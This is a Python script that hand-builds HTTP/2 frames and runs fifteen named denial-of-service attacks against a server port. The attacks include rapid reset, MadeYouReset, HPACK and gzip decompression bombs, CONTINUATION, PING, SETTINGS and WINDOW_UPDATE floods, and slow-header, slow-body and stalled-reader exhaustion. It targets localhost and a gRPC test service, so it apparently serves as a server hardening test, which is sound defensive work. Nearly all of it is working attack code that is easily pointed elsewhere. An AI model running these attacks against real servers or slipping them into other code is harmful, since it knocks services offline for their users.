"""Attacks on an HTTP/2 server, by name: attacks.py NAME PORT SECONDS. Each goes on, over new connections, until its time is up."""
import gzip, socket, struct, sys, time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def field(name, value, first=0):
    def text(t):
        t = t.encode()
        if len(t) < 127:
            return bytes([len(t)]) + t
        rest, head = len(t) - 127, b"\x7f"
        while rest >= 128:
            head, rest = head + bytes([rest & 127 | 128]), rest >> 7
        return head + bytes([rest]) + t
    return bytes([first]) + text(name) + text(value)


def block(**extra):
    fields = {":method": "POST", ":scheme": "http", ":path": "/grpc.testing.TestService/UnaryCall", ":authority": "a",
              "te": "trailers", "content-type": "application/grpc", **{k.replace("_", "-"): v for k, v in extra.items()}}
    return b"".join(field(k, v) for k, v in fields.items())


BLOCK = block()
OPEN = frame(4, 0, 0) + frame(4, 1, 0)


def odd():
    return range(1, 2**31, 2)


def rapid_reset():
    return [b"".join(frame(1, 4, i, BLOCK) + frame(3, 0, i, struct.pack(">I", 8)) for i in range(1, 40001, 2))]


def made_you_reset():
    head = block(content_length="1")
    return [b"".join(frame(1, 4, i, head) + frame(0, 0, i, b"12") for i in range(1, 40001, 2))]


def ping():
    return [frame(6, 0, 0, bytes(8)) * 200_000]


def settings():
    return [frame(4, 0, 0) * 200_000]


def window_update():
    return [frame(8, 0, 0, struct.pack(">I", 1)) * 200_000]


def priority():
    return [frame(2, 0, 101, struct.pack(">IB", 0, 15)) * 200_000]


def empty_data():
    return [frame(1, 4, 1, BLOCK) + frame(0, 0, 1) * 200_000]


def unknown():
    return [frame(0xbe, 0, 0) * 200_000]


def continuation():
    return [frame(1, 0, 1, BLOCK) + frame(9, 0, 1, field("a", "b")) * 100_000]


def hpack_bomb():
    entry = field("x", "a" * 3900, first=0x40)
    bombs = [frame(1, 4, 1, BLOCK + entry)]
    for i in (3, 5, 7):
        bombs += [frame(1, 0, i, BLOCK)] + [frame(9, 0, i, b"\xbe" * 16_000)] * 7 + [frame(9, 4, i, b"\xbe" * 16_000)]
    return [b"".join(bombs)]


def streams():
    return [b"".join(frame(1, 4, i, BLOCK) for i in range(1, 40001, 2))]


def gzip_bomb():
    packed = gzip.compress(bytes(200 << 20), 9)
    head = block(grpc_encoding="gzip")
    body = b"\1" + struct.pack(">I", len(packed)) + packed
    return [frame(1, 4, 1, head) + b"".join(frame(0, 0, 1, body[i:i + 16000]) for i in range(0, len(body), 16000)) + frame(0, 1, 1)]


def slow_headers():
    """A byte at a time."""
    return [bytes([b]) for b in frame(1, 4, 1, BLOCK)]


def slow_body():
    """The length of a large message, and then a byte at a time."""
    return [frame(1, 4, 1, BLOCK) + frame(0, 0, 1, b"\0\3\0\0\0")] + [frame(0, 0, 1, b"x")] * 10_000


def stalled_reader():
    """Asks for megabytes, and never reads."""
    request = bytes([0x10]) + b"\x80\x80\x80\x02"  # response_size: 4 MiB
    body = b"\0" + struct.pack(">I", len(request)) + request
    window = frame(8, 0, 0, struct.pack(">I", 2**30)) + frame(4, 0, 0, struct.pack(">HI", 4, 2**30))
    return [window + b"".join(frame(1, 4, i, BLOCK) + frame(0, 1, i, body) for i in range(1, 41, 2))]


SLOW = {"slow_headers", "slow_body", "stalled_reader"}
NAMES = [rapid_reset, made_you_reset, ping, settings, window_update, priority, empty_data, unknown, continuation, hpack_bomb, streams,
         gzip_bomb, slow_headers, slow_body, stalled_reader]
NAMES = {attack.__name__: attack for attack in NAMES}


def connect(port):
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall(PREFACE + OPEN)
    return s


def main(name, port, seconds):
    pieces = NAMES[name]()
    end = time.monotonic() + seconds
    print("ready", flush=True)
    if name in SLOW:
        # Many at once, each slow.
        kept = [connect(port) for _ in range(50 if name != "stalled_reader" else 8)]
        index = 0
        while time.monotonic() < end:
            for s in kept:
                try:
                    if index < len(pieces):
                        s.sendall(pieces[index])
                except OSError:
                    pass
            index += 1
            time.sleep(0.1)
        return
    while time.monotonic() < end:
        try:
            with connect(port) as s:
                s.settimeout(5)
                for piece in pieces:
                    view = memoryview(piece)
                    for i in range(0, len(view), 65536):
                        s.sendall(view[i:i + 65536])
                        if time.monotonic() > end:
                            return
                s.shutdown(socket.SHUT_WR)
                while s.recv(1 << 16):
                    pass
        except OSError:
            pass


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))
